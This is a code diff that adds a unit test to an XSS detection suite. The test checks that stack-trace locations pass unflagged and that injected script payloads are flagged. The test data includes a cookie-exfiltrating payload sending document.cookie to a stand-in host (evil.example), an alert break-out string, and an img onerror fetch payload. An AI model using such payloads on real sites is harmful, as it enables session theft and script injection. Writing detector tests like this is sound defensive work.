@@ -312,6 +312,23 @@ TEST(XssJsSink, StackFrameWithEvalIsAllowed) {
   }
 }
 
+// A frame's location as the whole argument list (a file or URL and line numbers, "Native
+// Method") is a stack trace in a ticket or an error report, not a call.
+TEST(XssJsSink, StackFrameLocationIsNoCall) {
+  for (const char* v :
+       {"Our Java client logs: java.net.SocketTimeoutException: Read timed out "
+        "at com.acme.Client.fetch(Client.java:88)",
+        "at Object.fetch (https://cdn.example.com/app.js:1:2)", "at eval (Native Method)"}) {
+    Verdict r = testing::InspectAsJson(v);
+    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
+  }
+  for (const char* v : {"x';fetch('//evil.example/'+document.cookie)//", "';alert(1)//",
+                        "<img src=x onerror=fetch(location.hash.slice(1))>"}) {
+    Verdict r = testing::InspectAsJson(v);
+    EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
+  }
+}
+
 // CJK text is written without spaces between words; a CJK phrase after a bare tag or after a
 // call reads like the Latin words above. Code after them is still judged.
 TEST(XssCjkProse, TagAndCallNamedInACjkSentenceAreAllowed) {
